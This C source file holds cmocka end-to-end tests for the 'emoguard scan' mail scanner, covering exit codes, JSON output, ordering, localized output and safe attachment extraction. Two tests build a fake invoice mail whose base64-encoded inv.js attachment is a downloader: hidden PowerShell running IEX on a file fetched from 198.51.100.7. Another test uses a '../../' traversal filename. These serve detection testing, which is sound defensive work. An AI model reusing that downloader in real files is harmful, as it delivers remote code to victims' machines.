/*
 * End-to-end tests of `emoguard scan`: the real binary on generated inputs, checking exit codes,
 * JSON Lines validity and fields, ordering with -j, unreadable inputs and --extract safety.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "mail_builder.h"
#include "testutil.h"

#include <jansson.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

static char *tmp;

static int setup(void **st)
{
    (void)st;
    tmp = eg_test_tmpdir("cli");
    return tmp ? 0 : -1;
}

static int teardown(void **st)
{
    (void)st;
    eg_test_rmrf(tmp);
    free(tmp);
    return 0;
}

static void writef(const char *name, const char *content)
{
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", tmp, name);
    assert_int_equal(eg_test_write_file(p, content, strlen(content)), 0);
}

/* runs emoguard with args (a shell fragment); returns exit code, stdout in *out */
static int emoguard(const char *args, char **out)
{
    char cmd[8192];
    snprintf(cmd, sizeof cmd, "cd '%s' && EG_NO_PROGRESS=1 '%s' %s 2>/dev/null", tmp, EG_BINARY,
             args);
    return eg_test_run(cmd, out, NULL);
}

static const char *CLEAN_MAIL =
    "From: Yamada <yamada@example.co.jp>\r\nTo: sato@example.jp\r\nSubject: meeting\r\n"
    "Date: Mon, 1 Jul 2024 10:00:00 +0900\r\nMessage-ID: <1@example.co.jp>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
    "Tuesday at 14:00 works for us.\r\n";

static void usage_errors_exit_3(void **st)
{
    (void)st;
    assert_int_equal(emoguard("scan", NULL), 3);
    assert_int_equal(emoguard("scan --format xml x.eml", NULL), 3);
    assert_int_equal(emoguard("scan --bogus x.eml", NULL), 3);
    assert_int_equal(emoguard("frobnicate", NULL), 3);
    assert_int_equal(emoguard("scan --help", NULL), 0);
}

static void clean_mail_json(void **st)
{
    (void)st;
    writef("clean.eml", CLEAN_MAIL);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json clean.eml", &out), 0);
    json_error_t je;
    json_t *j = json_loads(out, 0, &je);
    assert_non_null(j);
    assert_int_equal(json_integer_value(json_object_get(j, "schema_version")), 2);
    assert_string_equal(json_string_value(json_object_get(j, "verdict")), "clean");
    json_t *m = json_object_get(j, "mail");
    assert_string_equal(json_string_value(json_object_get(json_object_get(m, "from"), "address")),
                        "yamada@example.co.jp");
    assert_string_equal(json_string_value(json_object_get(m, "subject")), "meeting");
    assert_string_equal(json_string_value(json_object_get(m, "message_id")), "<1@example.co.jp>");
    json_t *objs = json_object_get(j, "objects");
    assert_true(json_array_size(objs) >= 1);
    json_t *root = json_array_get(objs, 0);
    assert_string_equal(json_string_value(json_object_get(root, "type")), "mail");
    assert_int_equal(strlen(json_string_value(json_object_get(root, "sha256"))), 64);
    json_decref(j);
    free(out);
}

static void empty_and_junk_inputs(void **st)
{
    (void)st;
    writef("empty.eml", "");
    char junk[4096];
    for (size_t i = 0; i < sizeof junk - 1; i++)
        junk[i] = (char)(1 + (i * 7919) % 255);
    junk[sizeof junk - 1] = 0;
    writef("junk.bin", junk);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json empty.eml", &out), 0);
    assert_non_null(strstr(out, "INPUT.EMPTY"));
    free(out);
    int rc = emoguard("scan --format json junk.bin", &out);
    assert_true(rc >= 0 && rc <= 2);
    assert_non_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
}

static void unreadable_inputs_exit_4(void **st)
{
    (void)st;
    assert_int_equal(emoguard("scan does-not-exist.eml", NULL), 4);
    assert_int_equal(emoguard("scan /dev/null", NULL), 4);
    writef("ok.eml", CLEAN_MAIL);
    /* one good, one missing: still 4, and the good one is still reported */
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json ok.eml missing.eml", &out), 4);
    assert_non_null(strstr(out, "\"verdict\":\"clean\""));
    free(out);
}

static void directory_and_parallel_order(void **st)
{
    (void)st;
    char d[4096];
    snprintf(d, sizeof d, "%s/many", tmp);
    mkdir(d, 0700);
    for (int i = 0; i < 30; i++) {
        char name[64];
        snprintf(name, sizeof name, "many/m%02d.eml", i);
        writef(name, CLEAN_MAIL);
    }
    char *out = NULL;
    assert_int_equal(emoguard("scan -j 2 --format json many", &out), 0);
    int lines = 0, last = -1;
    for (char *p = out; (p = strstr(p, "\"source\":\"many/m")); p++) {
        int n = atoi(p + strlen("\"source\":\"many/m"));
        assert_true(n > last); /* input order kept with -j 2 */
        last = n;
        lines++;
    }
    assert_int_equal(lines, 30);
    free(out);
}

static void mbox_and_stdin(void **st)
{
    (void)st;
    char mbox[8192];
    snprintf(mbox, sizeof mbox,
             "From a@b Mon Jul  1 10:00:00 2024\n%s\nFrom c@d Mon Jul  1 10:01:00 2024\n%s\n",
             CLEAN_MAIL, CLEAN_MAIL);
    writef("box.mbox", mbox);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json box.mbox", &out), 0);
    assert_non_null(strstr(out, "box.mbox#1"));
    assert_non_null(strstr(out, "box.mbox#2"));
    free(out);
    writef("in.eml", CLEAN_MAIL);
    assert_int_equal(emoguard("scan --format json - < in.eml", &out), 0);
    assert_non_null(strstr(out, "\"source\":\"-\""));
    free(out);
}

static void extract_writes_safe_names_0600(void **st)
{
    (void)st;
    const char *mail =
        "From: a@example.jp\r\nTo: b@example.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
        "Content-Type: text/plain\r\n\r\nsee attachment\r\n--XX\r\n"
        "Content-Type: application/octet-stream; name=\"../../escape.txt\"\r\n"
        "Content-Disposition: attachment; filename=\"../../escape.txt\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gd29ybGQK\r\n--XX--\r\n";
    writef("att.eml", mail);
    char *out = NULL;
    int rc = emoguard("scan --extract out att.eml", &out);
    free(out);
    assert_true(rc >= 0 && rc <= 2);
    char cmd[4096];
    snprintf(cmd, sizeof cmd, "cd '%s' && ls out && ls .. | grep -c escape", tmp);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 1); /* grep found nothing outside */
    assert_non_null(strstr(out, "escape.txt.bin"));
    assert_null(strstr(out, "/"));
    free(out);
    snprintf(cmd, sizeof cmd, "cd '%s/out' && stat -c %%a *escape* index.json", tmp);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 0);
    assert_string_equal(out, "600\n600\n");
    free(out);
    /* index.json: one record per object, naming the file it was written to */
    char p[4096];
    snprintf(p, sizeof p, "%s/out/index.json", tmp);
    json_error_t je;
    json_t *ix = json_load_file(p, 0, &je);
    assert_non_null(ix);
    json_t *objs = json_object_get(ix, "objects");
    assert_true(json_array_size(objs) >= 3);
    json_t *root = json_array_get(objs, 0);
    assert_true(json_is_null(json_object_get(root, "parent")));
    assert_true(json_is_null(json_object_get(root, "file")));
    bool found = false;
    for (size_t i = 0; i < json_array_size(objs); i++) {
        json_t *o = json_array_get(objs, i);
        const char *f = json_string_value(json_object_get(o, "file"));
        if (!f || !strstr(f, "escape.txt.bin"))
            continue;
        found = true;
        assert_string_equal(json_string_value(json_object_get(o, "name")), "../../escape.txt");
        assert_int_equal(json_integer_value(json_object_get(o, "size")), 12);
        /* sha256 of "hello world\n" */
        assert_string_equal(json_string_value(json_object_get(o, "sha256")),
                            "a948904f2f0f479b8f8197694b30184b0d2ed1c1cd2a1ec0fb85d299a192a447");
        assert_int_equal(json_integer_value(json_object_get(o, "parent")), 0);
        assert_true(json_is_null(json_object_get(o, "decrypted_with")));
    }
    assert_true(found);
    json_decref(ix);
    /* a second run into the same directory is refused, unless --force */
    assert_int_equal(emoguard("scan --extract out att.eml", NULL), 3);
    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan --extract out att.eml 2>&1 >/dev/null", tmp,
             EG_BINARY);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 3);
    assert_non_null(strstr(out, "not empty"));
    free(out);
    int rc2 = emoguard("scan --extract=out --force att.eml", NULL);
    assert_true(rc2 >= 0 && rc2 <= 2);
}

/* What is declared a mail (a .eml file, an mbox or Maildir entry) is parsed as one even when
 * content sniffing would not call it a mail: here a first header line that is no field. The
 * script in the base64 part is only seen when the mail is parsed. */
static void declared_mails_are_parsed(void **st)
{
    (void)st;
    static const char js[] =
        "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
        "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
    char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
    char mail[8192];
    snprintf(mail, sizeof mail,
             "this first line is no header field\n"
             "From: a@example.net\nTo: b@example.jp\nSubject: invoice\nMIME-Version: 1.0\n"
             "Content-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain\n\n"
             "see attachment\n--XX\nContent-Type: application/octet-stream; name=\"inv.js\"\n"
             "Content-Disposition: attachment; filename=\"inv.js\"\n"
             "Content-Transfer-Encoding: base64\n\n%s\n--XX--\n",
             b64);
    free(b64);
    writef("odd.eml", mail);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format json odd.eml", &out), 2);
    assert_non_null(strstr(out, "MAIL.HEADER_MALFORMED"));
    assert_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
    char mbox[9000];
    snprintf(mbox, sizeof mbox, "From a@b Mon Jul  1 10:00:00 2024\n%s\n", mail);
    writef("odd.mbox", mbox);
    assert_int_equal(emoguard("scan --format json odd.mbox", &out), 2);
    free(out);
    char d[4096];
    snprintf(d, sizeof d, "%s/md", tmp);
    const char *const one[] = {mail};
    assert_int_equal(eg_mb_maildir(d, one, 1), 0);
    assert_int_equal(emoguard("scan --format json md", &out), 2);
    free(out);
    /* on stdin (an MDA's pipe) the same mail is a mail too; a document piped in is not */
    assert_int_equal(emoguard("scan --format json - < odd.eml", &out), 2);
    assert_non_null(strstr(out, "MAIL.HEADER_MALFORMED"));
    free(out);
    writef("doc.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 not a whole compound file");
    assert_int_not_equal(emoguard("scan --format json - < doc.bin", &out), 4);
    assert_null(strstr(out, "MAIL.HEADER_MALFORMED"));
    assert_non_null(strstr(out, "\"cfb\""));
    free(out);
    /* the same bytes under a name that says nothing: sniffed, and not taken for a mail */
    writef("odd.dat", mail);
    assert_true(emoguard("scan --format json odd.dat", &out) < 2);
    assert_non_null(strstr(out, "INPUT.NOT_MAIL"));
    free(out);
}

/* A folder as a small company has it: two clean mails, one bad one, a manifest.json. */
static void make_folder(void)
{
    char d[4096];
    snprintf(d, sizeof d, "%s/inbox", tmp);
    mkdir(d, 0700);
    writef("inbox/a.eml", CLEAN_MAIL);
    writef("inbox/b.eml", CLEAN_MAIL);
    writef("inbox/manifest.json", "{\"mails\": 3, \"exported\": \"2024-07-01\"}\n");
    static const char js[] =
        "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
        "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";
    char *b64 = eg_mb_base64((const uint8_t *)js, sizeof js - 1, true);
    char mail[8192];
    snprintf(mail, sizeof mail,
             "From: Billing <billing@example.net>\nTo: b@example.jp\nSubject: invoice 42\n"
             "Message-ID: <bad-1@example.net>\nMIME-Version: 1.0\n"
             "Content-Type: multipart/mixed; boundary=\"XX\"\n\n--XX\nContent-Type: text/plain\n\n"
             "see attachment\n--XX\nContent-Type: application/octet-stream; name=\"inv.js\"\n"
             "Content-Disposition: attachment; filename=\"inv.js\"\n"
             "Content-Transfer-Encoding: base64\n\n%s\n--XX--\n",
             b64);
    free(b64);
    writef("inbox/c.eml", mail);
}

/* The lines a terminal shows: each line after its last carriage return, "\033[K" dropped. */
static char **rendered_lines(const char *raw, size_t *n)
{
    char *copy = strdup(raw);
    char **lines = calloc(strlen(raw) + 2, sizeof *lines);
    *n = 0;
    for (char *l = strtok(copy, "\n"); l; l = strtok(NULL, "\n")) {
        size_t len = strlen(l);
        while (len && l[len - 1] == '\r')
            l[--len] = 0;
        char *cr = strrchr(l, '\r');
        char *v = cr ? cr + 1 : l;
        char *out = malloc(strlen(v) + 1), *o = out;
        for (const char *p = v; *p;)
            if (!strncmp(p, "\033[K", 3))
                p += 3;
            else
                *o++ = *p++;
        *o = 0;
        lines[(*n)++] = out;
    }
    free(copy);
    return lines;
}

static void free_lines(char **l, size_t n)
{
    for (size_t i = 0; i < n; i++)
        free(l[i]);
    free(l);
}

static bool has_line_starting(char **l, size_t n, const char *prefix)
{
    for (size_t i = 0; i < n; i++)
        if (!strncmp(l[i], prefix, strlen(prefix)))
            return true;
    return false;
}

/* no shown line holds what is left of the progress bar ("] 2/3") */
static void no_bar_residue(char **l, size_t n, const char *raw)
{
    for (size_t i = 0; i < n; i++)
        if (strstr(l[i], "] 1/3") || strstr(l[i], "] 2/3") || strstr(l[i], "] 3/3") ||
            strstr(l[i], "[####"))
            fail_msg("bar left on line \"%s\" in:\n%s", l[i], raw);
}

/* `emoguard scan -j 2 --summary DIR` in a terminal (a pty through script(1)) and in a pipe. */
static void terminal_and_pipe_output(void **st)
{
    (void)st;
    make_folder();
    char cmd[8192], *out = NULL;
    size_t n;
    char **l;
    /* a pipe: no bar, reports and the summary each on their own lines */
    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --summary inbox 2>&1 | cat", tmp,
             EG_BINARY);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 0);
    assert_null(strstr(out, "\r"));
    assert_null(strstr(out, "\033"));
    l = rendered_lines(out, &n);
    assert_true(has_line_starting(l, n, "emoguard scan: inbox/manifest.json: not a mail, skipped"));
    assert_true(
        has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
    assert_true(has_line_starting(l, n, "files skipped as not mail: 1"));
    assert_true(has_line_starting(l, n, "flagged mails"));
    assert_true(
        has_line_starting(l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
    free_lines(l, n);
    free(out);
    /* the same without --summary: the summary (stderr) never lands inside a report (stdout) */
    snprintf(cmd, sizeof cmd, "cd '%s' && '%s' scan -j 2 --no-color inbox 2>&1 | cat", tmp,
             EG_BINARY);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 0); /* cat's status */
    l = rendered_lines(out, &n);
    assert_true(has_line_starting(l, n, "3 mails: 2 clean"));
    assert_true(has_line_starting(l, n, "■ inbox/c.eml"));
    free_lines(l, n);
    free(out);
    if (!eg_test_have("script")) {
        skip();
        return;
    }
    /* a terminal: the bar is drawn and erased, and nothing is left of it on a shown line */
    snprintf(cmd, sizeof cmd, "cd '%s' && script -qec \"'%s' scan -j 2 --summary inbox\" /dev/null",
             tmp, EG_BINARY);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 2);
    assert_non_null(strstr(out, "\r\033[K"));
    assert_non_null(strstr(out, "] 3/3"));
    l = rendered_lines(out, &n);
    no_bar_residue(l, n, out);
    assert_true(
        has_line_starting(l, n, "3 mails: 2 clean, 0 suspicious, 1 malicious, 0 unreadable"));
    assert_true(
        has_line_starting(l, n, "  malicious | inbox/c.eml | billing@example.net | invoice 42 | "));
    free_lines(l, n);
    free(out);
    snprintf(cmd, sizeof cmd,
             "cd '%s' && script -qec \"'%s' scan -j 2 --no-color --lang ja inbox\" /dev/null", tmp,
             EG_BINARY);
    assert_int_equal(eg_test_run(cmd, &out, NULL), 2);
    l = rendered_lines(out, &n);
    no_bar_residue(l, n, out);
    assert_true(has_line_starting(l, n, "■ inbox/a.eml"));
    assert_true(has_line_starting(l, n, "■ inbox/c.eml"));
    assert_true(has_line_starting(l, n, "判定: 危険"));
    assert_true(has_line_starting(l, n, "合計 3 通: 検出なし 2, 要注意 0, 危険 1"));
    assert_true(has_line_starting(
        l, n, "emoguard scan: inbox/manifest.json: メールではないため飛ばしました"));
    assert_true(has_line_starting(l, n, "メールではないため飛ばしたファイル: 1"));
    assert_true(
        has_line_starting(l, n, "  危険 | inbox/c.eml | billing@example.net | invoice 42 | "));
    free_lines(l, n);
    free(out);
}

/* Options as getopt_long takes them: --opt=value, bundled short options, options after the
 * files, "--"; --help exits 0. */
static void options_getopt_long(void **st)
{
    (void)st;
    writef("g.eml", CLEAN_MAIL);
    char *out = NULL;
    assert_int_equal(emoguard("scan --format=json --lang=ja g.eml", &out), 0);
    assert_non_null(strstr(out, "\"schema_version\":2"));
    free(out);
    assert_int_equal(emoguard("scan -j2 -s g.eml", &out), 0);
    assert_non_null(strstr(out, "1 mails: 1 clean") ? out : strstr(out, "合計 1 通"));
    free(out);
    assert_int_equal(emoguard("scan g.eml --format json", &out), 0);
    assert_non_null(strstr(out, "\"verdict\":\"clean\""));
    free(out);
    writef("-odd.eml", CLEAN_MAIL);
    assert_int_equal(emoguard("scan --format json -- -odd.eml", &out), 0);
    assert_non_null(strstr(out, "\"source\":\"-odd.eml\""));
    free(out);
    assert_int_equal(emoguard("scan --jobs", NULL), 3);
    assert_int_equal(emoguard("scan -j0 g.eml", NULL), 3);
    assert_int_equal(emoguard("scan -h", NULL), 0);
    /* the contact from --contact and from a configuration file */
    writef("scan.conf", "# who to call\ncontact = \"情報システム部 (内線 1234)\"\n");
    make_folder();
    assert_true(emoguard("scan --lang ja --config scan.conf inbox/c.eml", &out) >= 1);
    assert_non_null(strstr(out, "情報システム部 (内線 1234)"));
    free(out);
    assert_true(emoguard("scan --lang=en --contact='Suzuki (ext. 1234)' inbox/c.eml", &out) >= 1);
    assert_non_null(strstr(out, "Suzuki (ext. 1234)"));
    free(out);
}

/* every subcommand's --help exits 0 and prints the one exit-code table; --version says more
 * than the project version */
static void help_and_version(void **st)
{
    (void)st;
    /* each subcommand's help ends with the same table */
    static const char *const tabled[] = {"scan --help", "rules --help", "intel --help",
                                         "hostcheck --help", "harden --help"};
    for (size_t i = 0; i < sizeof tabled / sizeof tabled[0]; i++) {
        char *o = NULL;
        emoguard(tabled[i], &o);
        if (!o || !strstr(o, "exit codes (one table for every command):\n"))
            fail_msg("no exit-code table in emoguard %s", tabled[i]);
        free(o);
    }
    static const char *const cmds[] = {"--help",
                                       "scan --help",
                                       "scan -h",
                                       "rules --help",
                                       "milter --help",
                                       "intel --help",
                                       "intel check --help",
                                       "intel match --help",
                                       "intel exposure --help",
                                       "hostcheck --help",
                                       "harden --help"};
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        char *out = NULL;
        int rc = emoguard(cmds[i], &out);
        if (rc != 0)
            fail_msg("emoguard %s exited %d", cmds[i], rc);
        free(out);
    }
    char *out = NULL;
    assert_int_equal(emoguard("--help", &out), 0);
    assert_non_null(strstr(out, "exit codes (one table for every command):\n"));
    free(out);
    assert_int_equal(emoguard("scan --help", &out), 0);
    assert_non_null(strstr(out, "exit codes (one table for every command):\n"));
    free(out);
    assert_int_equal(emoguard("rules --bogus", NULL), 3);
    assert_int_equal(emoguard("milter --bogus", NULL), 3);
    assert_int_equal(emoguard("--version", &out), 0);
    assert_int_equal(strncmp(out, "emoguard ", 9), 0);
    assert_non_null(strstr(out, "(library "));
    static const char *const parts[] = {"rule table: ", " rules, fingerprint ",
                                        "freemail.txt", "GMime ",
                                        "libgsf ",      "libarchive ",
                                        "OpenSSL ",     "YARA ",
                                        "jansson ",     "milter protocol "};
    for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++)
        if (!strstr(out, parts[i]))
            fail_msg("--version lacks \"%s\":\n%s", parts[i], out);
    free(out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(usage_errors_exit_3),
        cmocka_unit_test(terminal_and_pipe_output),
        cmocka_unit_test(options_getopt_long),
        cmocka_unit_test(help_and_version),
        cmocka_unit_test(clean_mail_json),
        cmocka_unit_test(empty_and_junk_inputs),
        cmocka_unit_test(unreadable_inputs_exit_4),
        cmocka_unit_test(directory_and_parallel_order),
        cmocka_unit_test(mbox_and_stdin),
        cmocka_unit_test(declared_mails_are_parsed),
        cmocka_unit_test(extract_writes_safe_names_0600),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
